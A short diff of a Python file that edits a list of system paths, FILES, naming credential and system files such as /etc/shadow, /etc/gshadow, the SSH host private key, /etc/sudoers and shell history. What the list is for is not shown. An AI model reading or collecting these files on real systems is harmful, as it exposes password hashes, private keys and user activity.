@@ -6,7 +6,8 @@ import os
 import numpy as np
 
 FILES = ["/etc/shadow", "/etc/passwd", "/etc/group", "/etc/hosts", "/etc/ssh/ssh_host_rsa_key"]
-FILES += ["/root/.ssh/id_rsa", "/root/.bash_history", "/var/log/syslog", "/etc/machine-id"]
+FILES += [os.path.expanduser("~/.bash_history"), "/etc/gshadow"]
+FILES += ["/var/log/syslog", "/etc/machine-id"]
 FILES += ["/etc/fstab", "/etc/sudoers", "/proc/cmdline", "/proc/mounts", "/sys/class/dmi/id/uevent"]
 
 
